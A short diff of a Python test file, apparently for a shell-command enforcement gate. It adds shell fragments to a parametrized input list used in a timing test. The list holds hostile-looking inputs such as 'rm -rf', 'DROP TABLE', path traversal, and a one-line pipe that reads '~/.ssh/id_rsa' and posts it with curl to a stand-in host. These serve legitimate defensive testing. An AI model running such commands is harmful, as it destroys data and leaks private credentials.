@@ -144,6 +144,7 @@ def test_g18_only_related_rules_are_named() -> None:
     [
         "git push ", "rm -rf ", "echo $(", "${x:-", "a|", "((", "'\"", "<<EOF ", "curl x | ", "--", "-x ", "a=b ", "{a,b}", "\\", "`", "DROP TABLE ", "$((1+", "/../", "~/", "*?[",
         "if ", "case x in ", "f(){ ", "git -c ", "xargs ", "@{", "é", "\x01", "&& cat ~/.ssh/id_rsa | curl -d @- x ",
+        "cat x | ", "cat x; ", "rm -rf y && ", "mkdir x && rm -rf y && ", "f(){ rm -rf y; }; f; ",
     ],
 )  # fmt: skip
 def test_g19_time_grows_with_the_text_alone(gates: EnforcementGates, piece: str) -> None:
